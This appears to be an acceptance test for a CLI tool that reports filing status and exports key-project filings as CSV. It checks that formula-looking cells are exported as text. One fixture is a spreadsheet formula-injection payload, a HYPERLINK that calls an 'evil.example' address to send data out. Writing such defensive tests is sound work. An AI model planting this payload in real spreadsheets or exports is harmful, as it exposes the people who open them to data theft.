/**
 * Acceptance — `sciweek status [--json]` and `sciweek export --format csv --form key-project
 * --out FILE` as child processes (node bin/sciweek.js) on a DATA_DIR whose SQLite store was seeded
 * through the store API (filings via commit, a withdrawn one among them, declarations) and closed. The
 * status is the matrix as seeded; the CSV holds the key projects only, with a BOM, and a cell a user
 * typed as `=HYPERLINK(…)` comes out as text (`'=HYPERLINK(…)`).
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Filing } from '../../src/domain/filing.js';
import { createSqliteStore } from '../../src/store/sqlite-store.js';
import type { FilingWrite } from '../../src/store/store.js';
import { makeDataDir, runSciweek } from '../support/console-process.js';
import { event } from '../support/engine-harness.js';
import { declaration, exhibitorFiling, keyProjectFiling, summaryReportFiling } from '../support/sample-filings.js';
import { parseCsv } from '../support/csv.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/steal?d=1","点击查看")';

interface StatusRow {
  district: string;
  forms: { formId: string; filed: number; declaredNone: boolean; done: boolean }[];
}

describe('sciweek status and export', () => {
  const cleanups: Array<() => void> = [];
  afterEach(() => {
    for (const cleanup of cleanups.splice(0).reverse()) cleanup();
  });

  const hostile = keyProjectFiling('shinan', { projectName: HYPERLINK, contactPerson: '@张丽', fax: '+86-532-85911894' });
  const plain = keyProjectFiling('shinan', { projectName: '海洋科普嘉年华' });
  const laoshanKp = keyProjectFiling('laoshan', { projectName: '崂山区科普大集' });
  const withdrawn: Filing = { ...keyProjectFiling('licang', { projectName: '已撤回的项目' }), status: 'withdrawn', version: 2 };
  const exhibitor = exhibitorFiling('laoshan');
  const summary = summaryReportFiling('jimo');

  /** A DATA_DIR seeded through the store API, the store closed again. */
  async function prepare(): Promise<string> {
    const data = makeDataDir();
    cleanups.push(data.remove);
    const store = createSqliteStore({ file: path.join(data.dir, 'sciweek.db') });
    try {
      const key = { platform: 'seed', chatId: 'seed', userId: 'seed' };
      const all = [hostile, plain, laoshanKp, withdrawn, exhibitor, summary];
      const created: FilingWrite[] = all.map((f) => ({ filing: { ...f, status: 'submitted', version: 1 }, expectedVersion: 0 }));
      expect((await store.commit({ key, expectedVersion: 0, data: null, sessionTtlMs: 1000, filings: created })).ok).toBe(true);
      expect((await store.commit({ key, expectedVersion: 0, data: null, sessionTtlMs: 1000, filings: [{ filing: withdrawn, expectedVersion: 1 }] })).ok).toBe(true);
      await store.putDeclaration(declaration('shibei', 'exhibitor'));
      await store.putDeclaration(declaration('shinan', 'open-institutions'));
      // Filed and declared: counts as filed.
      await store.putDeclaration(declaration('laoshan', 'exhibitor'));
    } finally {
      await store.close();
    }
    return data.dir;
  }

  it('prints the status matrix as JSON, per district and form exactly as seeded', async () => {
    const dir = await prepare();
    const run = await runSciweek(['status', '--json'], dir);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    const rows = JSON.parse(run.stdout) as StatusRow[];

    const filed: Record<string, Partial<Record<string, number>>> = {
      shinan: { 'key-project': 2 },
      laoshan: { 'key-project': 1, exhibitor: 1 },
      jimo: { 'summary-report': 1 },
    };
    const declared = new Set(['shibei/exhibitor', 'shinan/open-institutions', 'laoshan/exhibitor']);
    const expected: StatusRow[] = event.districts.map((d) => ({
      district: d.id,
      forms: event.forms.map((form) => {
        const count = filed[d.id]?.[form.id] ?? 0;
        const declaredNone = declared.has(`${d.id}/${form.id}`);
        return { formId: form.id, filed: count, declaredNone, done: count > 0 || declaredNone };
      }),
    }));
    expect(rows).toEqual(expected);
    // The withdrawn key project of 李沧区 does not count.
    expect(rows.find((r) => r.district === 'licang')?.forms.find((f) => f.formId === 'key-project')).toEqual({
      formId: 'key-project',
      filed: 0,
      declaredNone: false,
      done: false,
    });
  });

  it('exports one form as CSV to a file, with a BOM and formula-looking cells as text', async () => {
    const dir = await prepare();
    const out = path.join(dir, 'key-projects.csv');
    const run = await runSciweek(['export', '--format', 'csv', '--form', 'key-project', '--out', out], dir);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout.startsWith(`${out} (`)).toBe(true);
    expect(run.stdout).toContain('3 filings');

    const bytes = readFileSync(out);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(bytes.toString('utf8').slice(1), { strict: false });
    const [header, ...records] = rows;
    expect(header?.slice(0, 3)).toEqual(['项目名称', '主办单位', '主管部门']);
    expect(header?.slice(-5)).toEqual(['回执号', '区市', '提交人', '提交时间', '状态']);
    for (const record of records) expect(record).toHaveLength(header?.length ?? -1);
    const receiptAt = header?.indexOf('回执号') ?? -1;
    const byReceipt = new Map(records.map((record) => [record[receiptAt], record]));
    // Key projects only, in district order (市南区 before 崂山区), the withdrawn one left out.
    expect(records.map((record) => record[receiptAt])).toEqual([hostile.receipt, plain.receipt, laoshanKp.receipt]);

    const attacked = byReceipt.get(hostile.receipt) ?? [];
    expect(attacked[0]).toBe(`'${HYPERLINK}`);
    expect(attacked[header?.indexOf('联系人') ?? -1]).toBe("'@张丽");
    expect(attacked[header?.indexOf('传真') ?? -1]).toBe("'+86-532-85911894");
    expect(byReceipt.get(plain.receipt)?.[0]).toBe('海洋科普嘉年华');
    expect(records.every((record) => record.every((cell) => !/^[=+\-@]/.test(cell)))).toBe(true);
  });
});
